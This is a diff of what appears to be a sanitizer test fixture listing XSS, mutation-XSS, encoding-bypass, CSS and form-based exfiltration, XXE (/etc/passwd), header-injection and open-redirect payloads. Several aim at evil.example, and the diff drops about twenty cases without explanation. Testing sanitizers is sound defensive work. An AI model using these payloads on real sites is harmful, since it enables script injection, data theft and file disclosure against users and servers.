@@ -7,7 +7,6 @@ no page of ours has. What leads away leads to `evil.example`.
 SCRIPTS = (
     "<script>hit=1</script>",
     "<ScRiPt >hit=1</sCrIpT >",
-    "<script/x>hit=1</script/x>",
     "<script\n>hit=1</script\n>",
     "<script src=//evil.example/x.js></script>",
     "<script type=module>window.hit=1</script>",
@@ -29,7 +28,6 @@ HANDLERS = (
     "<xss autofocus tabindex=0 onfocus=hit=1>x</xss>",
     "<style onload=hit=1></style>",
     "<iframe onload=parent.hit=1></iframe>",
-    "<div popover id=p onbeforetoggle=hit=1></div><button popovertarget=p>x</button>",
     "<p style=content-visibility:auto oncontentvisibilityautostatechange=hit=1>x",
 )
 
@@ -47,12 +45,10 @@ FOREIGN = (
 ADDRESSES = (
     "javascript:hit=1",
     "JaVaScRiPt:hit=1",
-    " javascript:hit=1",
     "java\tscript:hit=1",
     "java\r\nscript:hit=1",
     "javascript&colon;hit=1",
     "&#106;avascript:hit=1",
-    "&#x6A&#x61vascript:hit=1",
     "javascript://evil.example/%0ahit=1",
     "data:text/html,<script>parent.hit=1</script>",
     "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=",
@@ -74,7 +70,6 @@ MUTATIONS = (
     '<svg></p><style><a id="</style><img src=x onerror=hit=1>">',
     '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
     '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src onerror=hit=1>">',
-    "<select><style></select><img src=x onerror=hit=1></style>",
     '<xmp><p title="</xmp><img src=x onerror=hit=1>">',
     "<template shadowrootmode=open><img src=x onerror=hit=1></template>",
     "<p title=`><img src=x onerror=hit=1>`>",
@@ -87,7 +82,6 @@ ATTRIBUTES = (
     "'><img src=x onerror=hit=1>",
     '" autofocus onfocus=hit=1 x="',
     "' autofocus onfocus=hit=1 x='",
-    "` autofocus onfocus=hit=1 x=`",
     '"autofocus/onfocus="hit=1',
     "&quot; onfocus=hit=1 autofocus x=&quot;",
     '"></form><form action=//evil.example><input name=q autofocus x>',
@@ -104,14 +98,12 @@ RAW_TEXT = (
     "<![CDATA[<img src=x onerror=hit=1>]]>",
     "</title><script>hit=1</script>",
     "</textarea><script>hit=1</script>",
-    "</noscript><img src=x onerror=hit=1>",
     "</template></select></iframe></xmp><svg/onload=hit=1>",
     '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
 )
 
 UNICODE = (
     "＜script＞hit=1＜/script＞",
-    "﹤img src=x onerror=hit=1﹥",
     "ʺ＞＜svg onload=hit=1＞",
     "<ſcript>hit=1</ſcript>",
     "<scr\u200bipt>hit=1</scr\u200bipt>",
@@ -121,14 +113,12 @@ UNICODE = (
     "\u2028\u2029</textarea></script><script>hit=1</script>",
     '"\u0338><img src=x onerror=hit=1>',
     "\u00c0\u00bcscript\u00c0\u00behit=1\u00c0\u00bc/script\u00c0\u00be",
-    "+ADw-script+AD4-hit=1+ADw-/script+AD4-",
     "\u00bcscript\u00behit=1\u00bc/script\u00be",
     "%C0%BCscript%C0%BEhit=1",
 )
 
 CONTROLS = (
     "<scr\x00ipt>hit=1</scr\x00ipt>",
-    "<img src=x onerror\x00=hit=1>",
     "<img\x0csrc=x\x0conerror=hit=1>",
     "<svg\x0bonload=hit=1>",
     "java\x00script:hit=1",
@@ -154,12 +144,10 @@ STYLES = (
     '<p style="background:url(//evil.example/x)">x</p>',
     "<link rel=stylesheet href=//evil.example/x.css>",
     "x;}*{background:url(//evil.example/x)}",
-    "\\3c script\\3e hit=1",
 )
 
 JSON = (
     '"}</script><script>hit=1</script>',
-    "</ScRiPt ><img src=x onerror=hit=1>",
     "<!--<script>",
     "\\u003c/script>\\u003cscript>hit=1//",
     '\\"};hit=1;//',
@@ -170,7 +158,6 @@ THEFTS = (
     "<img src='//evil.example/?",
     "<form action=//evil.example><textarea name=x>",
     "<button formaction=//evil.example>x</button>",
-    "<link rel=prefetch href=//evil.example/x>",
     "\"><base target='",
 )
 
@@ -178,27 +165,21 @@ HEADERS = (
     "x\r\nSet-Cookie: hit=1",
     "x\r\n\r\n<script>hit=1</script>",
     "x\nX-Injected: 1",
-    "x\rX-Injected: 1",
     "x\u560d\u560aX-Injected: 1",
     "x%0d%0aX-Injected: 1",
     "x\u0085X-Injected: 1",
-    "x\u2028X-Injected: 1",
 )
 
 REDIRECTS = (
     "//evil.example",
-    "///evil.example/%2f..",
     "/\\evil.example",
-    "\\\\evil.example",
     "\t//evil.example",
-    "/\t/evil.example",
     "/\n/evil.example",
     "https:evil.example",
     "ht\ntps://evil.example",
     "//evil。example",
     "@evil.example",
     "//127.0.0.1@evil.example",
-    "https://evil.example#@127.0.0.1",
 )
 
 CLASSES = {
